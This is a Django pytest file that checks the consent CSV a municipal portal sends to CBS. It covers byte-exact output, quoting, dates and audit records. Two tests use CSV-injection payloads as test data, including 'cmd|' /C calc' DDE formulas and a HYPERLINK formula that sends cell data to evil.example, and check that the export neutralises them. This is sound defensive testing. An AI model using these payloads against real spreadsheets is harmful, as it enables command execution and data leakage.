"""The consent CSV for CBS, byte for byte (DESIGN.md §3.5)."""

from __future__ import annotations

import datetime
import re

import pytest
from django.core.files.storage import default_storage
from django.test import Client

from msdportaal.conftest import MUNICIPAL_BACKEND
from msdportaal.consent.services import csv_bytes, csv_value
from msdportaal.transport.models import MessageKind

from .factories import CURRENT, PREVIOUS, report, submit

pytestmark = pytest.mark.django_db

HEADER = (
    b"Naam organisatie;verslagperiode;naam verzoek;conclusie;datumconclusie;"
    b"naam van gebruiker;emailadres;telefoonnummer\r\n"
)


def test_the_csv_is_byte_exact(client_a: Client, municipality_a):
    report(municipality_a, PREVIOUS)
    form = submit(
        client_a,
        PREVIOUS,
        {"WMO_KOSTEN": "nee", "KOSTEN_JW": "nee"},
        name='José "Jos" de Vries; MSD',
        email="jose@example.org",
        phone="+31 20 123 45 67",
    )
    person = '"José ""Jos"" de Vries; MSD";jose@example.org;+31 20 123 45 67'
    expected = (
        HEADER
        + (
            f"Amsterdam;2025HJ02;WMO basisset;ja;2026-11-29;{person}\r\n"
            f"Amsterdam;2025HJ02;WMO kostenset;nee;2026-11-29;{person}\r\n"
            f"Amsterdam;2025HJ02;WMO facultatieve set;ja;2026-11-29;{person}\r\n"
            f"Amsterdam;2025JJ00;Kosten jeugdwet;nee;2026-11-29;{person}\r\n"
            f"Amsterdam;2025JJ00;Kosten SBO;ja;2026-11-29;{person}\r\n"
        ).encode()
    )
    with default_storage.open(form.stored_name, "rb") as stored:
        content = stored.read()
    assert content == expected
    assert not content.startswith(b"\xef\xbb\xbf")  # no BOM
    assert "é".encode() in content  # UTF-8, not Latin-1
    assert form.size == len(expected)
    assert form.file_name == f"MSD_TOESTEMMING_0363_2025HJ02_{form.reference}.csv"
    assert re.fullmatch(r"[0-9A-Za-z._-]{1,255}", form.file_name)
    assert re.fullmatch(r"\d{8}-\d{6}-\d{3}", form.reference)
    message = form.outbound_message
    assert message.kind == MessageKind.CONSENT
    assert message.functie == "MSDTOESTEMMING"
    assert message.bestandsnaam == form.file_name
    assert message.content_type == "text/csv"
    assert message.referentienummer_bericht == form.reference
    assert message.stored_name == form.stored_name
    assert message.sha256 == form.sha256
    assert message.zender_administratie == "Amsterdam"
    assert message.source == f"toestemming {form.reference}"


def test_the_current_period_has_only_the_half_yearly_sets(client_a: Client, municipality_a):
    report(municipality_a, CURRENT)
    form = submit(client_a, CURRENT)
    with default_storage.open(form.stored_name, "rb") as stored:
        lines = stored.read().split(b"\r\n")
    assert lines[0] + b"\r\n" == HEADER
    assert [line.split(b";")[1:4] for line in lines[1:-1]] == [
        [b"2026HJ01", b"WMO basisset", b"ja"],
        [b"2026HJ01", b"WMO kostenset", b"ja"],
        [b"2026HJ01", b"WMO facultatieve set", b"ja"],
    ]
    assert lines[-1] == b""  # the last line ends in CRLF too


def test_datumconclusie_is_the_date_in_amsterdam(
    client_a: Client, user_a, municipality_a, fixed_today
):
    report(municipality_a, CURRENT)
    # 23:30 UTC on 29 November is already 30 November in Amsterdam.
    fixed_today.move_to(datetime.datetime(2026, 11, 29, 23, 30, tzinfo=datetime.UTC))
    client_a.force_login(user_a, backend=MUNICIPAL_BACKEND)  # the old session timed out
    form = submit(client_a, CURRENT)
    assert form.decided_on == datetime.date(2026, 11, 30)
    assert form.reference.startswith("20261130-0030")
    with default_storage.open(form.stored_name, "rb") as stored:
        assert b";2026-11-30;" in stored.read()


def test_the_period_header_can_be_spelled_as_in_the_original_example(
    client_a: Client, municipality_a, settings
):
    settings.MSD_CONSENT_CSV_PERIOD_HEADER = "verslagperioode"
    report(municipality_a, CURRENT)
    form = submit(client_a, CURRENT)
    with default_storage.open(form.stored_name, "rb") as stored:
        assert stored.read().startswith(b"Naam organisatie;verslagperioode;naam verzoek;")


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("Amsterdam", "Amsterdam"),
        ("Súdwest-Fryslân", "Súdwest-Fryslân"),
        ("a;b", '"a;b"'),
        ('zeg "ja"', '"zeg ""ja"""'),
        ("regel\r\nregel", '"regel\r\nregel"'),
        ("regel\nregel", '"regel\nregel"'),
        ("", ""),
        ("  spaties  ", "  spaties  "),
    ],
)
def test_values_are_quoted_only_when_needed(value: str, written: str):
    assert csv_value(value) == written


def test_formulas_in_the_form_reach_cbs_neutralised_byte_for_byte(client_a: Client, municipality_a):
    """OWASP CSV injection: a spreadsheet at CBS must not run what a gemeente typed."""
    municipality_a.name = "@SUM(1+1)*cmd|' /C calc'!A0"
    municipality_a.save()
    report(municipality_a, PREVIOUS)
    form = submit(
        client_a,
        PREVIOUS,
        {"WMO_KOSTEN": "nee", "KOSTEN_JW": "nee"},
        name='=HYPERLINK("https://evil.example/?x="&A1;"klik")',
        email="-2+3@example.org",
        phone="+31 20 123 45 67",
    )
    with default_storage.open(form.stored_name, "rb") as stored:
        lines = stored.read().split(b"\r\n")
    assert lines[1] == (
        b"'@SUM(1+1)*cmd|' /C calc'!A0;2025HJ02;WMO basisset;ja;2026-11-29;"
        b'"\'=HYPERLINK(""https://evil.example/?x=""&A1;""klik"")";'
        b"'-2+3@example.org;+31 20 123 45 67"
    )
    assert all(not cell.startswith(b"=") for line in lines for cell in line.split(b";"))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", '"\'\r=1+1"'),
        ('=HYPERLINK("x";"y")', '"\'=HYPERLINK(""x"";""y"")"'),
        ("+31 20 123 45 67", "+31 20 123 45 67"),  # a phone number as the form accepts it
        ("+31 20 CALL", "'+31 20 CALL"),
        ("a=1", "a=1"),
    ],
)
def test_a_value_a_spreadsheet_would_run_gets_a_quote_first(value: str, written: str):
    assert csv_value(value) == written


def test_a_value_with_a_line_break_stays_one_field(settings):
    settings.MSD_CONSENT_CSV_PERIOD_HEADER = "verslagperiode"
    content = csv_bytes([["Gemeente\r\nNoord", "2026HJ01", "x", "ja", "2026-11-29", "n", "e", "t"]])
    assert content.endswith(b'"Gemeente\r\nNoord";2026HJ01;x;ja;2026-11-29;n;e;t\r\n')


def test_the_decision_is_audited(client_a: Client, municipality_a):
    from msdportaal.audit.models import AuditAction, AuditEntry

    report(municipality_a, CURRENT)
    form = submit(client_a, CURRENT, {"WMO_FACULTATIEF": "nee"})
    entry = AuditEntry.objects.get(action=AuditAction.SUBMISSION)
    assert entry.municipality == municipality_a
    assert entry.object_id == str(form.pk)
    assert entry.details["reference"] == form.reference
    assert entry.details["answers"] == {
        "WMO_BASIS": "ja",
        "WMO_KOSTEN": "ja",
        "WMO_FACULTATIEF": "nee",
    }


def test_a_reference_is_never_one_a_delivery_already_has(client_a: Client, municipality_a):
    from msdportaal.consent.models import ConsentForm
    from msdportaal.consent.services import _assign_reference
    from msdportaal.deliveries.tests.factories import csv_file
    from msdportaal.deliveries.tests.test_upload import upload_and_confirm

    from .factories import fill_in

    (delivery,) = upload_and_confirm(client_a, csv_file(f"MSD_WMO-BASIS_0363_{CURRENT}.csv"))
    report(municipality_a, CURRENT)  # about that delivery: only the WMO basisset is asked
    only_basis = {"WMO_KOSTEN": "", "WMO_FACULTATIEF": ""}
    assert fill_in(client_a, CURRENT, only_basis).status_code == 302
    assert fill_in(client_a, CURRENT, only_basis).status_code == 302
    first, second = ConsentForm.objects.order_by("created_at")
    moment = delivery.uploaded_at
    assert delivery.reference.endswith("-001")
    assert _assign_reference(first, moment) == delivery.reference[:-3] + "002"
    assert _assign_reference(second, moment) == delivery.reference[:-3] + "003"
